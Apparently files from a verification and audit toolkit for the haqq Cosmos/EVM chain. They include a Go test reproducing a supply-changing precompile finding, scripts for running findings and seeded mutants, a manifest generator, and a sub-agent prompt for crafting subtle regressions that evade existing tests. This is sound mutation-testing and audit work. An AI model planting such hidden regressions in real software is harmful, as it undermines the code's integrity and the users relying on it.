	init := []byte{0x60, byte(len(runtime)), 0x80, 0x60, 0x0b, 0x60, 0x00, 0x39, 0x60, 0x00, 0xf3}
	return append(init, runtime...)
}

func c02iRun(t *testing.T, value *big.Int) {
	ds := new(PrecompileTestSuite)
	ds.SetT(t)
	s = ds
	ds.suiteIBCTesting = true
	ds.SetupTest()

	contractAddr, err := DeployContract(ds.chainA.GetContext(), ds.app, ds.privKey, gasPrice, ds.queryClientEVM,
		evmtypes.CompiledContract{ABI: abi.ABI{}, Bin: c02iForwarderInit()})
	require.NoError(t, err)
	ds.chainA.NextBlock()

	amount := big.NewInt(1_000_000)
	expTime := ds.chainA.GetContext().BlockTime().Add(ds.precompile.ApprovalExpiration)
	require.NoError(t, ds.app.AuthzKeeper.SaveGrant(ds.chainA.GetContext(), contractAddr.Bytes(), ds.address.Bytes(),
		&transfertypes.TransferAuthorization{Allocations: []transfertypes.Allocation{{
			SourcePort:    ds.transferPath.EndpointA.ChannelConfig.PortID,
			SourceChannel: ds.transferPath.EndpointA.ChannelID,
			SpendLimit:    sdk.NewCoins(sdk.NewCoin(ds.bondDenom, sdk.NewIntFromBigInt(amount).MulRaw(10))),
		}}}, &expTime))
	ds.chainA.NextBlock()

	ctx := ds.chainA.GetContext()
	supplyBefore := ds.app.BankKeeper.GetSupply(ctx, ds.bondDenom).Amount
	escrow := transfertypes.GetEscrowAddress(ds.transferPath.EndpointA.ChannelConfig.PortID, ds.transferPath.EndpointA.ChannelID)
	escrowBefore := ds.app.BankKeeper.GetBalance(ctx, escrow, ds.bondDenom).Amount

	_, ethRes, err := contracts.Call(ctx, ds.app, contracts.CallArgs{
		ContractAddr: contractAddr, ContractABI: ds.precompile.ABI, PrivKey: ds.privKey, GasPrice: gasPrice, Amount: value,
		MethodName: ics20.TransferMethod, GasLimit: 3_000_000,
		Args: []interface{}{
			ds.transferPath.EndpointA.ChannelConfig.PortID, ds.transferPath.EndpointA.ChannelID, ds.bondDenom, amount,
			ds.address, ds.chainB.SenderAccount.GetAddress().String(), ds.chainB.GetTimeoutHeight(), uint64(0), "memo",
		},
	})
	require.NoError(t, err)
	require.False(t, ethRes.Failed(), ethRes.VmError)
	require.Equal(t, int64(2), ds.app.EvmKeeper.GetState(ctx, contractAddr, common.Hash{}).Big().Int64(), "the precompile call inside the contract must have succeeded")

	supplyAfter := ds.app.BankKeeper.GetSupply(ctx, ds.bondDenom).Amount
	escrowAfter := ds.app.BankKeeper.GetBalance(ctx, escrow, ds.bondDenom).Amount
	t.Logf("value=%v: supply diff=%s, escrow diff=%s", value, supplyAfter.Sub(supplyBefore), escrowAfter.Sub(escrowBefore))
	require.Equal(t, amount.String(), escrowAfter.Sub(escrowBefore).String(), "the tokens were escrowed")
	require.True(t, supplyAfter.Equal(supplyBefore), "total supply of the native coin changed by %s during an EVM transaction", supplyAfter.Sub(supplyBefore))
}

func TestVerifFindingC02_Ics20TransferForDirtySigner(t *testing.T) { c02iRun(t, big.NewInt(5)) }

// control: without attached value the signer is not journal-dirty and the supply is conserved
func TestVerifFindingC02_Ics20Control_NoValue(t *testing.T) { c02iRun(t, nil) }
