#!/bin/bash
# usage: run_finding.sh <ID> [git-ref]   - runs the L2 reproduction test(s) of a finding against /repo via go test -overlay
set -u
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
ID=$1
declare -A PKG=( [C13]=x/coinomics/keeper [C13b]=x/coinomics/keeper [C19]=x/coinomics/keeper [C12]=x/ucdao/keeper [C05]=precompiles/staking [C02]=precompiles/staking [C01]=app [C04-ics20]=precompiles/ics20 [C03]=precompiles/staking [C03b]=app/ante/evm [C03c]=app/ante/evm [C07]=app/ante/evm [C17]=x/feemarket/keeper [C17b]=x/feemarket/keeper [C04]=precompiles/staking [C04-createvalidator]=precompiles/staking [C04-oog]=precompiles/staking [C02-ics20]=precompiles/ics20 [C02-distribution]=precompiles/distribution [C11]=x/liquidvesting/keeper [C09]=x/vesting/keeper [C10]=x/erc20/keeper [C10-send]=x/bank/keeper [C10-ics20]=precompiles/ics20 [C09b]=x/vesting/keeper [C19-epochs]=x/epochs [C17c]=x/feemarket/keeper [C04-denylist]=precompiles/staking )
pkg=${PKG[$ID]}
mkdir -p /verif/out/findings
ov=/verif/out/findings/overlay_$ID.json
python3 - "$ID" "$pkg" > $ov <<'P'
import json,sys,glob,os
ID,pkg=sys.argv[1:3]
rep={}
for f in glob.glob(f"/verif/findings/{ID}/*_test.go"):
    rep[f"/repo/{pkg}/{os.path.basename(f)}"]=f
print(json.dumps({"Replace":rep}))
P
cd /repo && go test -vet=off -count=1 -overlay $ov -run 'TestVerifFinding' ./$pkg 2>&1 | tail -25
