#!/opt/veriftools/pyvenv/bin/python3
import json,jsonschema,sys,glob
jsonschema.validate(json.load(open('/verif/MANIFEST.json')),json.load(open('/root/.vp/MANIFEST.schema.json')))
print('MANIFEST ok')
for f in sorted(glob.glob('/verif/evidence/*.json')):
    ev=json.load(open(f))
    jsonschema.validate(ev,json.load(open('/root/.vp/EVIDENCE.schema.json')))
    c=ev['coverage']
    print(f.split('/')[-1], ev['tier'], 'states',c['states'],'oblig',c.get('obligations'),'disch',c.get('discharged'),'traces',c['traces_validated_against_impl'],'funcs',len(c.get('functions_encoded',[])),'wall',ev['wall_s'],'viol',ev.get('violations'))
