#!/bin/bash
# usage: collect_mutant.sh <id e.g. C19-2> <worktree>  - copy patch, demo and MUTATION.md of a sub-agent's worktree into /verif/seeded/<id>/
set -eu
ID=$1; WT=$2; S=/verif/seeded/$ID
mkdir -p $S/demo
git -C $WT diff > $S/patch.diff
cp $WT/MUTATION.md $S/MUTATION.md
git -C $WT ls-files --others --exclude-standard | grep '_test.go$' | while read f; do mkdir -p $S/demo/$(dirname $f); cp $WT/$f $S/demo/$f; done
echo "collected: $(grep -c '^diff --git' $S/patch.diff) file(s) changed; demo: $(cd $S/demo && find . -name '*_test.go' | tr '\n' ' ')"
