#!/bin/bash
# applies every seeded mutant to /repo in turn, runs the quick check of the property it breaks, and reverts
cd /verif
for d in seeded/*/; do
  m=$(basename $d); p=$(python3 -c "import json;print(json.load(open('$d/meta.json'))['breaks_property'])")
  git -C /repo checkout -q -- . ; git -C /repo apply /verif/$d/patch.diff || { echo "$m: patch does not apply"; continue; }
  t0=$(date +%s); /verif/bin/vcheck -property $p -tier quick -timeout 20000 > /verif/out/mut_$m.log 2>&1; rc=$?; t1=$(date +%s)
  git -C /repo checkout -q -- . ; git -C /repo clean -fdq
  echo "$m property=$p rc=$rc $((t1-t0))s violations=$(grep -c '^VIOLATION' /verif/out/mut_$m.log)"
done
