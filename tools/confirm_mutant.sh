#!/bin/bash
# usage: confirm_mutant.sh <seeded-dir> <worktree>
# Confirms: with patch, repo builds + full existing test suite passes; demo fails with patch and passes without.
set -u
export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local
S=$1; WT=$2; OUT=$S/confirm.log
cd $WT || exit 2
git checkout -q -- . ; git clean -fdq
git apply $S/patch.diff || { echo "patch does not apply" > $OUT; exit 2; }
{
echo "== build with patch"; go build ./... && echo BUILD-OK
echo "== full suite with patch (demo absent)"
go test -vet=off -count=1 -timeout 25m ./... 2>&1 | grep -v "no test files" | grep -E "^(ok|FAIL|---|panic)" | sed 's/[0-9.]*s$//' 
echo "== demo with patch (expected FAIL)"
(cd $S/demo && find . -name '*_test.go') | while read f; do cp $S/demo/$f $WT/$f; done
PK=$(cd $S/demo && find . -name '*_test.go' -exec dirname {} \; | sort -u)
RUN=$(grep -ho 'func \(([a-zA-Z* ]*) \)\?Test[A-Za-z0-9_]*' $S/demo -r | sed 's/.*\(Test[A-Za-z0-9_]*\)/\1/' | sort -u | tr '\n' '|' | sed 's/|$//')
echo "pkgs: $PK run: $RUN"
for p in $PK; do go test -vet=off -count=1 $p 2>&1 | tail -30 | grep -E "^(ok|FAIL|--- FAIL)" ; done
echo "== demo without patch (expected ok)"
git apply -R $S/patch.diff
for p in $PK; do go test -vet=off -count=1 $p 2>&1 | tail -30 | grep -E "^(ok|FAIL|--- FAIL)" ; done
} > $OUT 2>&1
git checkout -q -- . ; git clean -fdq
echo done >> $OUT
