#!/bin/bash
cd /verif/engine && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go build -o /verif/bin/vcheck ./cmd/vcheck
