#!/usr/bin/env python3
"""Print the prompt given to an independent mutation sub-agent for one property (property text only; nothing else from /verif)."""
import json,sys
pid=sys.argv[1]; wt=sys.argv[2]; avoid=sys.argv[3] if len(sys.argv)>3 else ''
for l in open('/verif/properties.jsonl'):
    p=json.loads(l)
    if p['id']==pid: break
print(f"""You are testing how robust a Go code base's behaviour is against subtle regressions. The repository is haqq-network/haqq (a Cosmos SDK / CometBFT chain with an Ethermint-derived EVM). You have your own scratch git worktree of it at {wt} (detached HEAD of the pinned commit). Work ONLY inside {wt}; never touch /repo or /verif, never read /verif.

Environment: no network. For every shell call first run: export GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local  (go 1.23.5; all modules are in the module cache). A harmless conda WARNING line is printed by every shell call; ignore it.

This is the semantic property that users rely on:

  Title: {p['title']}
  Statement: {p['statement']}
  Quantified over: {p['quantifier']['text']}

Your task: produce ONE small source change (a realistic regression, e.g. what a plausible refactoring, optimisation or "cleanup" commit could introduce - a few lines, in non-test .go files) to the repository that BREAKS this property while (a) the repository still compiles (`go build ./...`) and (b) the EXISTING tests still pass (at least all tests of the packages you touched and of the packages that directly exercise that code - run them with `go test -vet=off -count=1 <pkgs>`; they must pass unchanged; do not edit or delete existing tests). The change must need something SPECIFIC to manifest - an unusual input (boundary value, zero-length period, simultaneous events, equal identities, particular rounding), a multi-step sequence of operations, a particular interleaving/ordering, or two cooperating sites that each look fine alone - NOT something ordinary use would expose at once. Prefer changes in the core mechanism code the statement is about.{(" An earlier exercise already changed " + avoid + "; choose a DIFFERENT file and a different mechanism behind the same property (another code path, module or message the statement also covers).") if avoid else ""}

Also write a demonstration: a NEW Go test file (name it zz_demo_test.go, in the package where it fits best; it may use the package's existing test helpers) containing a test that FAILS with your change applied and PASSES on the original code. Verify both directions yourself. IMPORTANT: never use `git stash` (the stash is shared with sibling worktrees used by other people); to test without your change use `git diff > /tmp/my_{pid}.patch && git apply -R /tmp/my_{pid}.patch` and re-apply with `git apply /tmp/my_{pid}.patch`.

Deliver, inside {wt}:
  - the source change left applied in the working tree (unstaged is fine), WITHOUT the demo file being part of `git diff` noise problems: leave the demo file as an untracked new file;
  - write {wt}/MUTATION.md describing: which file/lines changed, why it breaks the property, exactly what is needed to make it manifest, the exact commands you ran (build, existing tests, demo with and without the change) and their outcomes.
Keep the change minimal. Do not change go.mod/go.sum. Do not leave build outputs. When finished, reply with a short summary (files changed, demo test name and package, what triggers it).""")
