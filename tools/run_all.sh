#!/bin/bash
# runs every registered quick (or $1=thorough) check on the current /repo tree; prints id, exit code, seconds
tier=${1:-quick}
for id in $(python3 -c "import json;print(' '.join(c['property_id'] for c in json.load(open('/verif/MANIFEST.json'))['checks']))"); do
  t0=$(date +%s); /verif/bin/vcheck -property $id -tier $tier > /verif/out/run_$id.log 2>&1; rc=$?; t1=$(date +%s)
  echo "$id rc=$rc $((t1-t0))s $(grep -c '^KNOWN-FINDING' /verif/out/run_$id.log) known $(grep -c '^VIOLATION' /verif/out/run_$id.log) viol"
done
