#!/usr/bin/env python3
"""Regenerates /verif/MANIFEST.json from the table below (checks) and the N/A list."""
import json
LEVEL_TEXT = ("bounded symbolic model checking of the real Go code: the anchored functions are executed from go/ssa with symbolic inputs, "
  "every assertion is an SMT query (z3 5.1.0, fallback z3 4.8.12) that must come back unsat on every feasible path within the stated structural bound; "
  "counterexamples are replayed against the natively compiled code before they are reported")
NOTE_COMMON = ("trusted: go/ssa lowering, the gosym interpreter and its Int-with-wrap encoding, the theory summaries of math.Int/LegacyDec/sdk.Coins/big.Int/time "
  "(cross-checked each run by replaying solver-chosen traces through the native build), z3; ")
checks = {
 "C04": dict(note="PARTIAL (staking precompile delegate/undelegate + allowance methods): success => the account acted for is the signer or the immediate caller; a caller other than the signer needs a live StakeAuthorization of the right type covering the amount; a limited grant is reduced by exactly the amount used, removed at 0, never overspent; every sequence of <= 3 approve/increase/decrease/revoke/spend keeps the stored grant equal to the running-allowance model. NOT decided: distribution / ICS-20 precompiles, redelegate / cancelUnbonding / createValidator", design="6/C04"),
 "C16": dict(note="PARTIAL: staking delegate/undelegate hand the module exactly the native message (delegator = named account, validator, amount in bond denom), once, never on failure, and mirror the debit into the StateDB only for caller = delegator; bank precompile balances/totalSupply/supplyOf report exactly the bank module's figures for every denomination with an ERC-20 address. NOT decided: distribution / ICS-20, read-only staking queries, ABI encoding, gas", design="6/C16"),
 "C01": dict(note="PARTIAL: decides that StateDB.Commit issues its keeper writes in ascending (address, storage key) order for every iteration order of the dirty-account / dirty-storage maps (Go map order modelled as an arbitrary permutation, all explored), i.e. journal.sortedDirties and Storage.SortedKeys make the commit independent of map order; NOT decided: app-hash equality of replicas over block histories, goroutine-fed counters, Begin/EndBlocker ordering", design="6/C01", technique="bounded symbolic execution of go/ssa with nondeterministic map iteration order; exhaustive enumeration of orders"),
 "C02": dict(note="PARTIAL: decides on the real StateDB/journal/state objects that every bounded program of value transfers, self-destructs and (reverting) call frames commits balances = before + received - paid, total supply = sum of surviving balances and never above the initial supply (ledger keeper reproduces SetBalance's mint/burn delta); NOT decided: precompile calls and their balance mirroring (suspected overwrite of Cosmos-side debits, DESIGN.md section 8), fees", design="6/C02", technique="bounded symbolic execution of go/ssa; exhaustive enumeration of bounded operation programs"),
 "C05": dict(note="decides on the real StateDB/journal: after RevertToSnapshot every getter answers as at Snapshot(); after the final Commit the stores hold exactly the surviving writes, for every bounded program incl. the mid-transaction Commit every stateful precompile performs. One genuine defect is recorded as known finding C05-F2 (flushed state of a later-reverted frame survives; reproduced on the full app). NOT decided: Cosmos-side effects of precompile bodies (not journaled - architectural finding in DESIGN.md)", design="6/C05", technique="bounded symbolic execution of go/ssa; exhaustive enumeration of bounded operation programs"),
 "C07": dict(note="decides: gasUsed = max(floor(gasLimit x minGasMultiplier), EVM gas after the EIP-3529 refund) <= gasLimit for any interpreter outcome (real ApplyMessageWithConfig, EVM stubbed); after RefundGas the sender's net payment and the fee collector's income are exactly gasUsed x effective price; VerifyFee = gasLimit x effective price and rejects fee cap < base fee; eth-route and Cosmos-route min-gas-price decorators accept only fee >= gasLimit x minGasPrice (two-sided). NOT decided: contract creation, DeductFees plumbing, multi-message ApplyTransaction", design="6/C07"),
 "C03": dict(note="PARTIAL (replay protection only): decides that the eth-route sequence decorator accepts a message iff nonce = sender's current sequence, consumes exactly one sequence number per accepted message (any interleaving of 2 senders, <= 3 messages) and rejects an immediate replay; and that the legacy EIP-712 decorator accepts only a signature made for the account's current sequence and hands (this chain id, account number, current sequence) to the cryptographic check (VerifySignature replaced by a recorder). NOT decided: that signatures bind content (keccak/RLP/secp256k1/EIP-712 hashing cannot be encoded), the plain Cosmos route", design="6/C03"),
 "C18": dict(note="PARTIAL: decides that FromEthereumTx -> packed tx data -> AsTransaction is the identity on every field (nonce, gas, price/tip/cap, value, to, data, access list, chain id, v/r/s, type) for the three types incl. nil vs zero, and that Fee / Cost / EffectiveGasPrice / EffectiveFee / EffectiveCost equal the go-ethereum figures of the original. NOT decided: the protobuf encode/decode leg (BuildTx, TxEncoder/Decoder), hash and sender equality (they are functions of exactly the compared fields; keccak/RLP/secp256k1 are not encoded)", design="6/C18"),
 "C06": dict(note="decides on the real handler built by NewAnteHandler: unknown first extension option => rejected; top-level MsgEthereumTx on any Cosmos route => rejected; a disabled type inside MsgExec at any depth within the bound, or granted by MsgGrant => rejected; nothing-blocked forests pass the blocking checks (two-sided). Exhaustive enumeration of bounded message forests (all values concrete after the symbolic choice). NOT decided: per-decorator type assertions on the eth route", design="6/C06", technique="bounded symbolic execution of go/ssa; exhaustive path enumeration over bounded message forests (solver used for feasibility/witnesses only)"),
 "C19": dict(note="PARTIAL: decides Export(Init(Export(S))) = Export(S) and getter agreement for coinomics, fee market, liquid vesting and UC DAO from an arbitrary module state; NOT decided: x/evm, x/erc20, vesting accounts (x/auth), epochs, app/export.go, and the JSON/protobuf encoding of the document", design="6/C19"),
 "C14": dict(note="decides: BurnCoins for gov / bonded / not-bonded pools leaves supply unchanged, debits the pool, credits the distribution module account and adds exactly the amount to FeePool.CommunityPool; every other module burns normally; failures change nothing. One call, all values symbolic, 6 module names x 2 denoms. The slash / proposal histories that lead to BurnCoins are SDK code (outside)", design="6/C14"),
 "C08": dict(note="decides: LockedCoins(t) = max(original - unlockedVested - trackedDelegated, unvested) component-wise for arbitrary schedules/delegations/time; after a clawback the kept coins unlock exactly as the original lockup allows (so LockedCoins stays right); the staking wrapper lets a delegation / self-bond of a clawback vesting account through only if amount <= max(balance - unvested, 0). NOT decided here: that the SDK bank keeper consults LockedCoins on every debit path (assumed SDK contract), the eth ante pre-check and EVM debit path", design="6/C08"),
 "C12": dict(note="decides: one arbitrary DAO message from an arbitrary invariant-satisfying ledger (sum of shares = recorded total = module funds; holder and denom indexes exact) re-establishes the invariant, credits the depositor exactly, moves exactly the stated amount owner->recipient (incl. owner = recipient) and touches nobody else; 2 accounts x 2 denoms quick, 3 x 2 thorough", design="6/C12"),
 "C11": dict(note="decides (pure schedule algebra): SubtractAmountFromPeriods splits every period exactly (decreased+moved=original, nothing negative, other denoms untouched, moved total = requested, lengths kept) and the liquid-token schedule composed as in Liquidate has every release event at the absolute time of the original lockup event (nothing unlocks earlier); <=3 periods quick / <=5 thorough, amounts < 2^100. Keeper-level escrow/denom-table bookkeeping is outside this claim", design="6/C11"),
 "C13": dict(note="decides: one EndBlocker step from an arbitrary state mints round(bonded x coefficient% x elapsed/year) (18-decimal fixed point, leap years) into the fee collector, caps at max supply with auto-disable, mints nothing on first block / while disabled / on the first block after re-activation (two-step history); values < 2^100, years 1970..2399 (sampled in quick, all in thorough)", design="6/C13"),
 "C17": dict(note="decides: CalculateBaseFee = the statement's EIP-1559 formula incl. nil cases; unchanged at g=T, +>=1 above, >= floor(minGasPrice) and <= base below; monotone in g for base >= floor(minGasPrice); BeginBlock stores exactly it; EndBlock figure = max(floor(gasWanted*mult), gasUsed); single block, all integer values symbolic (base < 2^128); target T >= 1 assumed", design="6/C17"),
 "C09": dict(note="decides: ReadSchedule/ReadPastPeriodCount = step function, monotone, zero up to start, total from end; DisjunctPeriods = union (sum after both started); ConjunctPeriods = pointwise minimum; account level: vested+unvested = locked+unlocked = grant, never negative; ComputeClawback returns exactly unvested, keeps vested under the original lockup, leaves a consistent account accepted by its own Validate() (first lockup period of positive length). NOT decided: keeper-level funder check / bank transfer of the clawback (msg server); bounds: <=3 periods (quick) / <=5 (thorough), <=2 denoms, times < 2^61, amounts < 2^128", design="6/C09"),
}
na = {
}
pending = "C10".split()
m = {
 "version": 1,
 "setup_cmd": "cd /verif/engine && GOFLAGS=-mod=mod GOPROXY=off GOSUMDB=off GOTOOLCHAIN=local go build -o /verif/bin/vcheck ./cmd/vcheck",
 "hooks": {"guard": "verif", "enable": "none needed: harnesses are injected with go/packages and go test overlays; /repo is not modified by the machinery", "baseline_off_cmd": "cd /repo && GOFLAGS=-mod=mod go test -json -vet=off -count=1 -timeout 25m ./...", "source_commits": [], "add_only": True},
 "engines": [{"name": "gosym", "path": "/verif/engine", "serves_properties": sorted(checks), "kind_free_text": "own go/ssa symbolic executor -> SMT-LIB2 (Int theory with exact Go wrap-around), z3 5.1.0 primary, z3 4.8.12 fallback; harnesses overlaid into /repo packages at load time"}],
 "checks": [], "not_applicable": [],
 "notes": "exit codes of vcheck: 0 held on everything explored, 1 VIOLATION (replayed natively), 2 inconclusive (unsupported construct, solver unknown, bound exceeded, encoding mismatch) - never reported as a pass",
}
for pid in sorted(checks):
    c = checks[pid]
    m["checks"].append({
      "property_id": pid,
      "quick_cmd": f"/verif/bin/vcheck -property {pid} -tier quick",
      "thorough_cmd": f"/verif/bin/vcheck -property {pid} -tier thorough",
      "evidence_file": f"/verif/evidence/{pid}.json",
      "replay_cmd_template": "/verif/bin/vcheck -replay {path}",
      "engine": "gosym",
      "level_claimed": {"category": "model_checking", "text": LEVEL_TEXT, "design_ref": "DESIGN.md " + c["design"]},
      "level_note": NOTE_COMMON + c["note"],
      "technique": c.get("technique", "bounded symbolic execution of go/ssa + SMT (z3)"),
    })
for pid in ["C15", "C20"]:
    pass
NA_TEXT = {
 "C15": "SDK bank/staking/distribution/gov invariants over whole blocks need BaseApp and every SDK module encoded symbolically; out of reach of a hand-written SSA executor. The one Haqq write into another module's store (BurnCoins -> FeePool) is decided under C14.",
 "C20": "about a process stopped and reopened on its on-disk database (NewHaqq, LoadLatestVersion, IAVL); no function-level kernel to encode for an SMT solver.",
}
for pid, r in NA_TEXT.items():
    m["not_applicable"].append({"property_id": pid, "reason": r})
for pid in pending:
    if pid not in checks:
        m["not_applicable"].append({"property_id": pid, "reason": "check not built yet in this session (planned, see DESIGN.md section 9); not claimed until it runs clean on the unchanged tree"})
m["not_applicable"].sort(key=lambda x: x["property_id"])
json.dump(m, open('/verif/MANIFEST.json', 'w'), indent=1)
print("checks:", [c["property_id"] for c in m["checks"]], "na:", [n["property_id"] for n in m["not_applicable"]])
