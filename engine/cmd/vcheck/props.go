package main

import (
	"bufio"
	"bytes"
	"encoding/json"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"time"

	"verif/engine/gosym"
)

type Env struct {
	Repo, Verif, Tier, Solver, Dump, Only string
	Workers, TimeoutMs                    int
	NoReplay                              bool
}

// Inst is one harness instance: a harness function with concrete structural parameters (the bound).
type Inst struct {
	Pkg      string // package path relative to the module
	Fn       string
	Params   map[string]string
	MapOrder bool
	// EngineReplay: the harness overrides concrete dependency functions (e.g. the EVM interpreter), which a native build
	// cannot do; its counterexamples are confirmed by concrete re-execution in the SSA interpreter (inputs pinned to the
	// model, no solver involved) instead of natively, and it contributes no native validation traces.
	EngineReplay bool
}

// WiringFact is an assumption about how the application object is put together (a construction-time fact the harnesses of
// a property rest on): inside Fn, every call of Callee passes a value of concrete type Want as interface argument Arg.
// It is read off the SSA of the current source on every run; a mismatch is confirmed by the native probe test Probe
// (a Go test of package ProbePkg, injected by overlay) before it is reported.
type WiringFact struct {
	Kind       string // "" = concrete type of an interface argument; "param" = the argument is Fn's own parameter Want, passed through unchanged; "calls" = Fn calls Callee; "nocall" = Fn never calls Callee
	Fn, Callee string
	Arg        int
	Want       string
	Why        string
	ProbePkg   string
	ProbeTest  string
}

type PropSpec struct {
	Wiring []WiringFact
	ID          string
	Pkgs        []string // packages to load (relative, "./x/...")
	Quick       []Inst
	Thorough    []Inst
	Bounds      map[string]string // tier -> text
	Outside     []string
	Assumptions []string
	Stubs       []string
}

func pm(kv ...string) map[string]string {
	m := map[string]string{}
	for i := 0; i+1 < len(kv); i += 2 {
		m[kv[i]] = kv[i+1]
	}
	return m
}

type KnownFinding struct {
	Property string            `json:"property"`
	ID       string            `json:"id"`
	Harness  string            `json:"harness"`
	MsgHas   string            `json:"msg_contains"`
	Params   map[string]string `json:"params,omitempty"`
	Model    map[string]string `json:"model_equals,omitempty"`
	What     string            `json:"what"`
	Status   string            `json:"status"` // "open" | "fixed: ..."
}

type cexFile struct {
	Property string            `json:"property"`
	Harness  string            `json:"harness"`
	Pkg      string            `json:"pkg"`
	Params   map[string]string `json:"params"`
	Model    map[string]string `json:"model"`
	Msg      string            `json:"msg"`
	Kind     string            `json:"kind"`
	Where    string            `json:"where"`
	Expect   map[string]string `json:"expect_observed,omitempty"`
}

type replayResult struct {
	File     string            `json:"file"`
	Harness  string            `json:"harness"`
	Outcome  string            `json:"outcome"`
	Observed map[string]string `json:"observed"`
}

func (e *Env) loadKnown() []KnownFinding {
	var k struct {
		Findings []KnownFinding `json:"findings"`
	}
	b, err := os.ReadFile(filepath.Join(e.Verif, "known_findings.json"))
	if err != nil {
		return nil
	}
	if err := json.Unmarshal(b, &k); err != nil {
		fmt.Fprintln(os.Stderr, "known_findings.json:", err)
		os.Exit(2)
	}
	return k.Findings
}

func matchKnown(ks []KnownFinding, prop string, c *cexFile) *KnownFinding {
	for i := range ks {
		k := &ks[i]
		if k.Property != prop || k.Status != "open" || k.Harness != c.Harness {
			continue
		}
		if k.MsgHas != "" && !strings.Contains(c.Msg, k.MsgHas) {
			continue
		}
		ok := true
		for p, v := range k.Params {
			if c.Params[p] != v {
				ok = false
			}
		}
		for p, v := range k.Model {
			if c.Model[p] != v {
				ok = false
			}
		}
		if ok {
			return k
		}
	}
	return nil
}

// nativeReplay compiles the harnesses of pkg natively (go test -overlay) and runs the listed vector files.
func (e *Env) nativeReplay(pkg string, files []string, outDir string) (map[string]*replayResult, string, error) {
	res := map[string]*replayResult{}
	if len(files) == 0 {
		return res, "", nil
	}
	_, paths, err := gosym.Overlay(e.Repo, filepath.Join(e.Verif, "harness"))
	if err != nil {
		return nil, "", err
	}
	repl := map[string]string{}
	var fns []string
	pkgDir := filepath.Join(e.Repo, pkg)
	pkgName := ""
	for virt, real := range paths {
		repl[virt] = real
		if filepath.Dir(virt) == pkgDir && !strings.HasSuffix(virt, "_test.go") {
			src, _ := os.ReadFile(real)
			for _, line := range strings.Split(string(src), "\n") {
				if strings.HasPrefix(line, "package ") && pkgName == "" {
					pkgName = strings.TrimSpace(strings.TrimPrefix(line, "package "))
				}
				if strings.HasPrefix(line, "func Verif") {
					name := line[len("func "):strings.Index(line, "(")]
					fns = append(fns, name)
				}
			}
		}
	}
	if pkgName == "" {
		return nil, "", fmt.Errorf("no harness files for package %s", pkg)
	}
	sort.Strings(fns)
	var tb strings.Builder
	fmt.Fprintf(&tb, "package %s\n\nimport (\n\t\"testing\"\n\n\tzz \"%s/zzverif\"\n)\n\nfunc TestVerifReplay(t *testing.T) {\n\tzz.ReplayMain(map[string]func(){\n", pkgName, gosym.HaqqMod)
	for _, f := range fns {
		fmt.Fprintf(&tb, "\t\t%q: %s,\n", f, f)
	}
	tb.WriteString("\t})\n}\n")
	os.MkdirAll(outDir, 0o755)
	testFile := filepath.Join(outDir, "zz_verif_replay_test.go")
	os.WriteFile(testFile, []byte(tb.String()), 0o644)
	repl[filepath.Join(pkgDir, "zz_verif_replay_test.go")] = testFile
	ovb, _ := json.Marshal(map[string]interface{}{"Replace": repl})
	ovFile := filepath.Join(outDir, "overlay.json")
	os.WriteFile(ovFile, ovb, 0o644)
	listFile := filepath.Join(outDir, "replay.list")
	os.WriteFile(listFile, []byte(strings.Join(files, "\n")+"\n"), 0o644)
	cmd := exec.Command("go", "test", "-vet=off", "-count=1", "-overlay", ovFile, "-run", "^TestVerifReplay$", "-timeout", "20m", "-v", "./"+pkg)
	cmd.Dir = e.Repo
	cmd.Env = append(os.Environ(), "VERIF_REPLAY_LIST="+listFile, "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")
	var out bytes.Buffer
	cmd.Stdout = &out
	cmd.Stderr = &out
	runErr := cmd.Run()
	sc := bufio.NewScanner(bytes.NewReader(out.Bytes()))
	sc.Buffer(make([]byte, 1<<20), 1<<24)
	for sc.Scan() {
		l := sc.Text()
		if i := strings.Index(l, "REPLAY-RESULT "); i >= 0 {
			var r replayResult
			if json.Unmarshal([]byte(l[i+len("REPLAY-RESULT "):]), &r) == nil {
				res[r.File] = &r
			}
		}
	}
	if len(res) == 0 && runErr != nil {
		return res, out.String(), fmt.Errorf("native replay build/run failed: %v", runErr)
	}
	return res, out.String(), nil
}

// runProbe runs the native probe test of a wiring fact against /repo (harness test files injected by overlay).
func (e *Env) runProbe(wf WiringFact) (string, bool, error) {
	_, rep, err := gosym.Overlay(e.Repo, filepath.Join(e.Verif, "harness"))
	if err != nil {
		return "", false, err
	}
	dir := filepath.Join(e.Verif, "out", "probe")
	os.MkdirAll(dir, 0o755)
	ob, _ := json.Marshal(map[string]interface{}{"Replace": rep})
	ovFile := filepath.Join(dir, "overlay.json")
	os.WriteFile(ovFile, ob, 0o644)
	cmd := exec.Command("go", "test", "-vet=off", "-count=1", "-overlay", ovFile, "-run", "^"+wf.ProbeTest+"$", "-v", "./"+wf.ProbePkg)
	cmd.Dir = e.Repo
	cmd.Env = append(os.Environ(), "GOFLAGS=-mod=mod", "GOPROXY=off", "GOSUMDB=off", "GOTOOLCHAIN=local")
	outb, runErr := cmd.CombinedOutput()
	out := string(outb)
	if strings.Contains(out, "--- FAIL: "+wf.ProbeTest) {
		return out, true, nil
	}
	if strings.Contains(out, "--- PASS: "+wf.ProbeTest) {
		return out, false, nil
	}
	return out, false, fmt.Errorf("probe did not run: %v", runErr)
}

type instResult struct {
	Inst Inst
	Run  *gosym.Run
}

func instName(i Inst) string {
	ks := make([]string, 0, len(i.Params))
	for k := range i.Params {
		ks = append(ks, k)
	}
	sort.Strings(ks)
	var parts []string
	for _, k := range ks {
		parts = append(parts, k+"="+i.Params[k])
	}
	return i.Fn + "[" + strings.Join(parts, ",") + "]"
}

func (e *Env) RunProperty(id string) int {
	t0 := time.Now()
	spec, ok := Specs()[id]
	if !ok {
		fmt.Fprintf(os.Stderr, "no check registered for %s\n", id)
		return 2
	}
	insts := spec.Quick
	if e.Tier == "thorough" {
		insts = spec.Thorough
	}
	seed := 0
	if s := os.Getenv("VERIF_SEED"); s != "" {
		seed, _ = strconv.Atoi(s)
	}
	outDir := filepath.Join(e.Verif, "out", id)
	os.RemoveAll(outDir)
	os.MkdirAll(outDir, 0o755)
	P, err := gosym.Load(e.Repo, filepath.Join(e.Verif, "harness"), spec.Pkgs)
	if err != nil {
